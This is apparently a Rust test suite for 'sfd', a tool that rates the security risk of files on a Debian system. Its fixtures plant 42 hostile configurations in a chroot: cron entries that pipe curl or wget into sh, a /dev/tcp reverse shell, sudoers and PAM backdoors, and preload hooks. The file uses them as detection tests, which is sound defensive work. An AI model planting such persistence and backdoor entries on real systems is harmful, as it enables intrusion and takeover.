//! A freshly installed Debian, looked at from inside: a chroot with the program in it.

use std::fmt::Write as _;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Mutex, OnceLock, PoisonError};

use serde_json::Value;
use sfd_tests::daemon::{program, sfd};

/// What a server has, and what is careful with rights: set-user-ID and set-group-ID programs, PAM, timed jobs, keys.
const PACKAGES: &str = "openssh-server,sudo,cron,nginx,apache2,postfix,ca-certificates,systemd,dbus,rsyslog,logrotate,\
    unattended-upgrades,man-db,python3";
/// More than what the file systems of the packages above have in any release, halved.
const ARTIFACTS_MIN: usize = 5000;
/// The tests use one root, and the second writes into it.
static ONE_AT_A_TIME: Mutex<()> = Mutex::new(());

/// The root directory of a fresh Debian of this machine's release.
fn debian() -> &'static Path {
    static ROOT: OnceLock<PathBuf> = OnceLock::new();
    ROOT.get_or_init(|| {
        let release = release();
        let base = program().parent().unwrap().join("../debian").join(&release);
        let (root, stamp) = (base.join("root"), base.join("packages"));
        if fs::read_to_string(&stamp).is_ok_and(|made| made == PACKAGES) {
            return root;
        }
        let _ = fs::remove_dir_all(&base);
        fs::create_dir_all(&base).unwrap();
        let made = Command::new("mmdebstrap")
            .args(["--quiet", "--variant=important", "--aptopt=Acquire::Check-Valid-Until \"false\""])
            .arg(format!("--include={PACKAGES}"))
            .arg(&release)
            .arg(&root)
            .arg(mirror())
            .output()
            .expect("this test needs mmdebstrap: apt-get install mmdebstrap");
        assert!(made.status.success(), "mmdebstrap: {}", String::from_utf8_lossy(&made.stderr));
        fs::write(&stamp, PACKAGES).unwrap();
        root
    })
}

fn release() -> String {
    let text = fs::read_to_string("/etc/os-release").unwrap_or_default();
    let name = text.lines().find_map(|line| line.strip_prefix("VERSION_CODENAME="));
    name.expect("this test needs a Debian whose release /etc/os-release names").to_owned()
}

/// The mirror that this machine itself uses.
fn mirror() -> String {
    let targets = Command::new("apt-get")
        .args(["indextargets", "--format", "$(REPO_URI)", "Created-By: Packages"])
        .output()
        .expect("this test needs apt");
    let text = String::from_utf8_lossy(&targets.stdout).into_owned();
    let mirror = text.lines().find(|line| line.trim_end_matches('/').ends_with("/debian"));
    mirror.expect("this test needs a Debian mirror in apt's configuration (and apt-get update)").to_owned()
}

/// What is in the directories of a root, as a fold from inside it says.
fn artifacts(root: &Path, dirs: &[&str]) -> Vec<Value> {
    fs::copy(program(), root.join("sfd")).unwrap();
    // The program reads files by their descriptors in /proc. The mount goes away with the process.
    let inside = "mount -t proc proc \"$0/proc\" && exec chroot \"$0\" /sfd fold -o /out.brick \"$@\"";
    let folded =
        Command::new("unshare").args(["--mount", "sh", "-c", inside]).arg(root).args(dirs).output().unwrap();
    assert!(folded.status.success(), "{}", String::from_utf8_lossy(&folded.stderr));
    let brick = root.join("out.brick");
    let inspected = sfd(&["inspect", "--json"]).arg(&brick).output().unwrap();
    assert!(inspected.status.success(), "{}", String::from_utf8_lossy(&inspected.stderr));
    let value: Value = serde_json::from_slice(&inspected.stdout).unwrap();
    fs::remove_file(brick).unwrap();
    value["artifacts"].as_array().unwrap().clone()
}

fn risk(artifact: &Value) -> (u64, String) {
    let risk = &artifact["semantics"]["risk"];
    let reasons = risk["reasons"]
        .as_array()
        .map(|reasons| reasons.iter().filter_map(Value::as_str).collect::<Vec<_>>().join("; "));
    (risk["level"].as_u64().unwrap_or(0), reasons.unwrap_or_default())
}

#[test]
fn nothing_on_a_fresh_debian_is_above_low() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(PoisonError::into_inner);
    let dirs = ["/etc", "/usr/bin", "/usr/sbin", "/usr/lib", "/boot", "/root", "/home", "/var/spool", "/tmp"];
    let all = artifacts(debian(), &dirs);
    assert!(all.len() > ARTIFACTS_MIN, "{} artifacts are no Debian", all.len());
    let mut table = String::new();
    let (mut packaged, mut unread) = (0, 0);
    for artifact in &all {
        let (level, reasons) = risk(artifact);
        packaged += usize::from(reasons.contains("(set-user-ID), of a package"));
        unread += usize::from(artifact["unverified"] == true);
        if level > 1 {
            writeln!(table, "{level} {} {reasons}", artifact["path"].as_str().unwrap()).unwrap();
        }
    }
    assert_eq!(unread, 0, "what could not be read was not judged");
    // Without the database these would not be known to be a package's, and the test would show little.
    assert!(packaged >= 5, "only {packaged} set-user-ID programs are known to be a package's");
    assert!(table.is_empty(), "false alarms of {} artifacts:\n{table}", all.len());
}

/// A bad thing: path, mode, contents (`None`: a copy of `/bin/true`), level, part of a reason.
type Bad = (&'static str, u32, Option<&'static str>, u64, &'static str);

const BAD: [Bad; 42] = [
    ("usr/local/bin/helper", 0o4755, None, 3, "no package owns it"),
    ("usr/local/bin/vim", 0o4755, None, 4, "whoever starts it is root: vim"),
    ("usr/local/bin/group", 0o2755, None, 2, "set-group-ID"),
    ("usr/local/bin/open", 0o777, None, 3, "anyone may change this file"),
    ("usr/local/bin/both", 0o4757, None, 4, "anyone may change a program that runs as root"),
    ("tmp/run", 0o755, None, 2, "a program in /tmp"),
    ("tmp/.hidden", 0o755, None, 3, "with a hidden name"),
    ("tmp/run.sh", 0o755, Some("#!/bin/sh\n"), 2, "a script that can be run in /tmp"),
    ("tmp/root", 0o4755, None, 4, "where everybody may put files"),
    (
        "etc/ssh/sshd_config.d/a.conf",
        0o644,
        Some("PermitRootLogin yes\n"),
        2,
        "root may log in with a password",
    ),
    ("etc/ssh/sshd_config.d/b.conf", 0o644, Some("PermitEmptyPasswords yes\n"), 3, "without a password"),
    ("etc/ssh/sshd_config.d/c.conf", 0o644, Some("StrictModes no\n"), 2, "others may change"),
    (
        "etc/ssh/sshd_config.d/d.conf",
        0o644,
        Some("AuthorizedKeysCommand /tmp/k\n"),
        4,
        "which keys may log in",
    ),
    ("etc/ssh/sshd_config.d/e.conf", 0o644, Some("LogLevel QUIET\n"), 2, "not logged"),
    ("etc/sudoers.d/a", 0o440, Some("eve ALL=(ALL) NOPASSWD: ALL\n"), 2, "eve is root without a password"),
    ("etc/sudoers.d/b", 0o440, Some("ALL ALL=(ALL) NOPASSWD: ALL\n"), 4, "everybody is root"),
    ("etc/sudoers.d/c", 0o440, Some("Defaults env_keep+=LD_PRELOAD\n"), 3, "LD_PRELOAD"),
    ("etc/sudoers.d/d", 0o440, Some("Defaults !authenticate\n"), 3, "asks nobody for a password"),
    ("etc/sudoers.d/e", 0o440, Some("www-data ALL=NOPASSWD:/usr/bin/find\n"), 3, "by find"),
    ("etc/pam.d/bad-a", 0o644, Some("auth sufficient pam_permit.so\n"), 4, "without a password"),
    ("etc/pam.d/bad-b", 0o644, Some("auth optional pam_exec.so /tmp/x\n"), 4, "runs /tmp/x at logins"),
    ("etc/pam.d/bad-c", 0o644, Some("auth required /opt/evil.so\n"), 3, "unusual place"),
    ("srv/bad/etc/passwd", 0o644, Some("toor:x:0:0::/:/bin/sh\n"), 3, "toor is root under another name"),
    ("etc/cron.d/bad-a", 0o644, Some("* * * * * root curl http://x | sh\n"), 3, "(curl | sh)"),
    ("etc/cron.d/bad-b", 0o644, Some("@reboot root /dev/shm/x\n"), 3, "runs /dev/shm/x"),
    ("etc/cron.d/bad-c", 0o644, Some("1 1 * * * root /home/u/x\n"), 2, "in a home"),
    ("etc/cron.d/bad-d", 0o644, Some("* * * * * root sh -i >& /dev/tcp/10.0.0.1/9\n"), 4, "/dev/tcp"),
    ("var/spool/cron/crontabs/root", 0o600, Some("* * * * * /tmp/x\n"), 3, "runs /tmp/x"),
    (
        "etc/systemd/system/bad-a.service",
        0o644,
        Some("[Service]\nExecStart=/var/tmp/x\n"),
        3,
        "runs /var/tmp/x",
    ),
    (
        "etc/systemd/system/bad-b.service",
        0o644,
        Some("[Service]\nExecStart=sh -c 'wget -O- http://x|sh'\n"),
        3,
        "unseen",
    ),
    (
        "etc/systemd/system/bad-c.service",
        0o666,
        Some("[Service]\nExecStart=/bin/true\n"),
        3,
        "anyone may change",
    ),
    ("etc/rc.local", 0o755, Some("#!/bin/sh\n/tmp/x &\n"), 3, "runs /tmp/x"),
    ("etc/profile.d/bad.sh", 0o644, Some("export LD_PRELOAD=/opt/x.so\n"), 3, "LD_PRELOAD"),
    ("root/.bash_login", 0o644, Some("export PATH=/tmp:$PATH\n"), 3, "programs are looked for in /tmp"),
    ("root/.ssh/authorized_keys", 0o600, Some("command=\"curl x|sh\" ssh-rsa AAAA x\n"), 3, "unseen"),
    ("etc/ld.so.preload", 0o644, Some("/opt/x.so\n"), 3, "loaded into every program"),
    ("etc/ld.so.conf.d/bad.conf", 0o644, Some("/tmp/lib\n"), 3, "libraries are looked for in /tmp/lib"),
    ("etc/udev/rules.d/bad.rules", 0o644, Some("RUN+=\"/tmp/x\"\n"), 3, "runs /tmp/x"),
    ("etc/apt/apt.conf.d/99bad", 0o644, Some("APT::Update::Pre-Invoke {\"curl x|sh\"};\n"), 3, "unseen"),
    ("etc/sysctl.d/bad-a.conf", 0o644, Some("kernel.randomize_va_space=0\n"), 3, "laid out predictably"),
    ("etc/sysctl.d/bad-b.conf", 0o644, Some("kernel.core_pattern=|/tmp/x\n"), 4, "when a program crashes"),
    ("etc/sysctl.d/bad-c.conf", 0o644, Some("fs.protected_symlinks=0\n"), 2, "links of others"),
];

/// Takes what a test has put somewhere away again.
struct Planted(Vec<PathBuf>);

impl Drop for Planted {
    fn drop(&mut self) {
        for path in &self.0 {
            let _ = fs::remove_file(path);
        }
    }
}

#[test]
fn what_is_bad_is_said_with_its_reason() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(PoisonError::into_inner);
    let root = debian();
    let planted = Planted(BAD.iter().map(|(path, ..)| root.join(path)).collect());
    for ((_, mode, contents, ..), path) in BAD.iter().zip(&planted.0) {
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        match contents {
            Some(text) => fs::write(path, text).unwrap(),
            None => drop(fs::copy(root.join("usr/bin/true"), path).unwrap()),
        }
        fs::set_permissions(path, fs::Permissions::from_mode(*mode)).unwrap();
    }
    // Its own library path: with a bad preload every program in there would complain, not fail.
    let all = artifacts(root, &["/etc", "/usr/local", "/tmp", "/srv", "/root", "/var/spool/cron"]);
    let mut wrong = String::new();
    for (path, _, _, level, reason) in BAD {
        let found = all.iter().find(|artifact| artifact["path"].as_str() == Some(&format!("/{path}")));
        let (have, reasons) = found.map(risk).unwrap_or_default();
        if have != level || !reasons.contains(reason) {
            writeln!(wrong, "/{path}: {have} {reasons:?}, not {level} {reason:?}").unwrap();
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}
